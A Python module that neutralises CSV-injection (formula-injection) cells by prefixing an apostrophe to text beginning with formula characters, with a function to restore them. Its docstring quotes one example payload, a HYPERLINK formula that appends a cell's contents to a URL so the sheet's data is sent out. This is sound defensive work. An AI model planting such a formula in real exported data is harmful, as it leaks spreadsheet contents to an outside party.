"""Text cells a spreadsheet would run as formulas, written so it cannot (OWASP "CSV Injection").

Excel and LibreOffice read a CSV cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula,
and a tab or carriage return before one of them is skipped: an uraian such as
``=HYPERLINK("http://…?d="&A1,"Klik")`` would become a live link that sends the sheet away. Every
CSV sop writes passes its text cells through ``neutralised``: such a cell gets a leading ``'``,
which spreadsheets show as text. A text that itself begins with ``'`` gets one too, so reading
sop's own files back (``restored``) always takes exactly one ``'`` from a cell that begins with one,
and a genuine leading apostrophe survives. Numbers are never prefixed: the decision is by the
value's type, so -5 in a count column stays a number. A lone ``-``, the dash reports write for
"none", is no formula and stays as it is.
"""

from __future__ import annotations

from typing import Any

# What a spreadsheet starts a formula with (tab and CR it skips before one), and the mark itself.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")


def neutralised(value: Any) -> Any:
    """``value`` as a CSV cell may hold it: a text beginning like a formula (or with ``'``) behind a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and value != "-":
        return "'" + value
    return value


def restored(text: str) -> str:
    """A text cell of sop's own CSV as it was before ``neutralised``."""
    return text[1:] if text.startswith("'") else text
